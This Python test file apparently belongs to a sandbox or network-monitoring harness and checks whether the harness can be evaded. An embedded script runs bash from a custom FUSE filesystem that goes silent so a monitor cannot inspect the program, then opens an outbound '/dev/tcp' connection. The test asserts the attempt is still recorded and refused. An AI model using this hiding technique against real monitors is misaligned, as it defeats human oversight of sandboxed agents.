# SPDX-License-Identifier: Apache-2.0
"""Who makes the agent wait, so that others' attempts are not told of."""

import shutil

from harness.lab import PYTHON

from .case import EvasionTest
from .test_sockets import connect

# Runs a program from a file system of its own (linux/fuse.h), which says nothing more of the file once it runs.
OWN_FILES = r"""
import ctypes, mmap, os, struct, subprocess, sys
folder, shell, ip, port = sys.argv[1:]
content = open(shell, "rb").read()
ROOT, PROGRAM = 1, 2
LOOKUP, FORGET, GETATTR, OPEN, READ, INIT, INTERRUPT, BATCH_FORGET = 1, 2, 3, 14, 15, 26, 36, 42
silent = mmap.mmap(-1, 1)
device = os.open("/dev/fuse", os.O_RDWR)

def attributes(node):
    mode, size = (0o40755, 0) if node == ROOT else (0o100755, len(content))
    return struct.pack("=6Q10I", node, size, 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

def answer(kind, node, body):
    if kind == INIT:
        return struct.pack("=4I2H2I2H8I", 7, 31, 65536, 0, 12, 9, 65536, 1, 16, 0, *[0] * 8)
    if kind == LOOKUP and body == b"program\0":
        return struct.pack("=4Q2I", PROGRAM, 1, 1000, 0, 0, 0) + attributes(PROGRAM)
    if kind == GETATTR:
        return struct.pack("=Q2I", 0, 0, 0) + attributes(node)
    if kind == OPEN:
        return struct.pack("=Q2I", 1, 0, 0)
    if kind == READ:
        _, offset, size = struct.unpack_from("=2QI", body)
        return content[offset:offset + size]
    return None

libc = ctypes.CDLL(None, use_errno=True)
options = f"fd={device},rootmode=40000,user_id=0,group_id=0".encode()
if libc.mount(b"own", folder.encode(), b"fuse", 0, options) != 0:
    sys.exit(os.strerror(ctypes.get_errno()))
if os.fork() == 0:
    while True:
        try:
            asked = os.read(device, 1 << 17)
        except OSError:
            os._exit(0)
        _, kind, unique, node = struct.unpack_from("=2I2Q", asked)
        if kind in (FORGET, INTERRUPT, BATCH_FORGET) or (kind == GETATTR and silent[0]):
            continue
        said = answer(kind, node, asked[40:])
        error, said = (-38, b"") if said is None else (0, said)
        os.write(device, struct.pack("=IiQ", 16 + len(said), error, unique) + said)
os.close(device)
runs = subprocess.Popen([folder + "/program", "-c", f"echo runs; read; (exec 3<>/dev/tcp/{ip}/{port}); echo tried; read"],
                        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
assert runs.stdout.readline() == "runs\n"
silent[0] = 1
runs.stdin.write("\n")
runs.stdin.flush()
print(runs.stdout.readline(), end="", flush=True)
sys.stdin.readline()
runs.kill()
"""


class HeldUp(EvasionTest):
    def end(self, process):
        process.stdin.close()
        process.wait()

    def test_by_a_program_in_a_file_system_of_ones_own(self):
        folder = self.attacker.dir / "own"
        folder.mkdir()
        attack = self.attacker.pipe("unshare", "-m", PYTHON, "-c", OWN_FILES, str(folder), shutil.which("bash"), self.peer.ip4,
                                    str(self.port))
        self.addCleanup(self.end, attack)
        self.assertEqual(attack.stdout.readline(), "tried\n")
        self.recorded_outbound(process=False)
        self.port = next(self.numbers)
        self.refused(connect, self.peer.ip4, self.port)
        self.recorded_outbound()
